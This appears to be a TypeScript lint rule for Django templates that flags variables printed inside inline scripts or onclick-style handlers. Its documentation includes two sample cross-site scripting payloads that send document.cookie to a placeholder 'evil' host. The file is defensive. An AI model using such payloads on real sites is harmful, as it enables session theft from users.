import { parseFilterExpression } from '../../templates/filters';
import { attributeOf, literalValue, type HtmlAttribute, type RawTextElement } from '../../templates/html-scanner';
import { JsState, scanHandler, scanScript, type ScriptCode } from '../../templates/script-scan';
import { WHICH_TEMPLATES_DOC } from '../../templates/template-files';
import type { TemplateRule } from '../rule';

/** Script types a browser runs as JavaScript (the HTML standard's JavaScript MIME types, plus module). */
const JAVASCRIPT_TYPES = new Set([
  '',
  'module',
  'application/ecmascript',
  'application/javascript',
  'application/x-ecmascript',
  'application/x-javascript',
  'text/ecmascript',
  'text/javascript',
  'text/javascript1.0',
  'text/javascript1.1',
  'text/javascript1.2',
  'text/javascript1.3',
  'text/javascript1.4',
  'text/javascript1.5',
  'text/jscript',
  'text/livescript',
  'text/x-ecmascript',
  'text/x-javascript',
]);

/** Filters whose output is a number, which cannot change the script around it. */
const NUMERIC_FILTERS = new Set(['length', 'wordcount']);

/** Whether a script element's body runs as JavaScript; undefined when its type is computed. */
export function runsAsJavaScript(element: RawTextElement): boolean | undefined {
  const type = attributeOf(element.tag, 'type');
  if (!type) return true;
  const value = type.quote === undefined ? '' : literalValue(type);
  if (value === undefined) return undefined;
  return JAVASCRIPT_TYPES.has(value.trim().toLowerCase());
}

/** DJH306: `{{ value }}` inside `<script>`: HTML escaping does not make it safe JavaScript. */
export const variableInScript: TemplateRule = {
  meta: {
    code: 'DJH306',
    name: 'variable-in-script',
    severity: 'warning',
    scope: 'template',
    summary: 'A `{{ variable }}` inside an inline `<script>` or an event-handler attribute (`onclick`), where HTML escaping does not protect it.',
    fix: 'none',
    djangoChecks: [],
  },
  docs: `## What it does
Reports a template variable printed inside an inline \`<script>\` element that runs as JavaScript (no \`type\`, a JavaScript type, or \`module\`), or inside an event-handler attribute such as \`onclick="…"\` or \`onchange="…"\`.

Not reported: scripts that hold data or client-side templates (\`type="application/json"\`, \`type="text/template"\`), string and number literals, \`{{ csrf_token }}\` (letters and digits only), values ending in \`|length\` or \`|wordcount\`, and \`|escapejs\` as the last filter inside a quoted JavaScript string, which is what that filter is for. In an attribute, quotes written as character references (\`&quot;\`) count as the quotes they decode to.

${WHICH_TEMPLATES_DOC}

## Why is this bad
Django escapes for HTML, not for JavaScript. Inside a script, \`{{ value }}\` outside quotes is code (\`var n = {{ n }};\` with \`n = "1; fetch('//evil/'+document.cookie)"\`), and inside quotes a backslash, a line break or a backtick can still change the script. Escaped characters also come out as \`&quot;\` and \`&#x27;\` in the data. An event-handler attribute is worse: the browser decodes \`&#x27;\` back to \`'\` before it runs the handler, so in \`onclick="buy('{{ name }}')"\` a name such as \`'); fetch('//evil/?'+document.cookie); ('\` runs as code although Django escaped every quote in it.

## Example
\`\`\`html
<script>
  const user = { name: "{{ user.name }}", id: {{ user.id }} };
</script>
\`\`\`

## Use instead
\`\`\`html
{{ user_data|json_script:"user-data" }}
<script>
  const user = JSON.parse(document.getElementById("user-data").textContent);
</script>
\`\`\`
and for a handler, a data attribute the script reads:
\`\`\`html
<button data-name="{{ product.name }}" onclick="buy(this.dataset.name)">Buy</button>
\`\`\`

## Fix safety
No fix: moving data to \`json_script\` changes the view's context and the script.

## References
- [Django: the json_script filter](https://docs.djangoproject.com/en/stable/ref/templates/builtins/#json-script)
- [Django: the escapejs filter](https://docs.djangoproject.com/en/stable/ref/templates/builtins/#escapejs)
`,
  triggers: [/<script/i, /\son[a-z]+\s*=/i],
  check(ctx) {
    const findings = [];
    const scripts = new Map<RawTextElement, ScriptCode>();
    const handlers = new Map<HtmlAttribute, ReturnType<typeof scanHandler>>();
    for (const [node, where] of ctx.html.vars) {
      const inScript = where.kind === 'script' && runsAsJavaScript(where.element) === true;
      const inHandler = where.kind === 'attribute-value' && EVENT_HANDLER.test(where.attribute.name);
      if (!inScript && !inHandler) continue;
      const expression = parseFilterExpression(node, ctx.text);
      if (!expression || expression.head.kind !== 'variable') continue;
      const last = expression.filters[expression.filters.length - 1]?.name;
      if (expression.head.text === 'csrf_token' && expression.filters.length === 0) continue;
      if (last && NUMERIC_FILTERS.has(last)) continue;
      if (last === 'escapejs') {
        let state: number | undefined;
        if (where.kind === 'script') {
          let code = scripts.get(where.element);
          if (!code) {
            code = scanScript(ctx.text, where.element);
            scripts.set(where.element, code);
          }
          state = code.states[node.start - code.start];
        } else if (where.kind === 'attribute-value') {
          let handler = handlers.get(where.attribute);
          if (!handler) {
            handler = scanHandler(where.attribute);
            handlers.set(where.attribute, handler);
          }
          state = handler.states[handler.at.get(node) ?? -1];
        }
        if (state === JsState.SingleQuoted || state === JsState.DoubleQuoted) continue;
      }
      const message =
        where.kind === 'attribute-value'
          ? `{{ ${node.contents} }} is printed inside the ${where.attribute.name} attribute, which the browser runs as JavaScript after decoding its HTML escapes, so a quote in the value can change the code; pass the value in a data- attribute or with json_script instead.`
          : `{{ ${node.contents} }} is printed inside a <script>, where HTML escaping does not stop a quote, backslash or line break from changing the code; pass the value with json_script instead.`;
      findings.push(ctx.finding(node.start, node.end, message));
    }
    return findings;
  },
};

/** Event-handler attributes (`onclick`, `onmouseover`, …): their value is JavaScript. */
const EVENT_HANDLER = /^on[a-z]+$/;
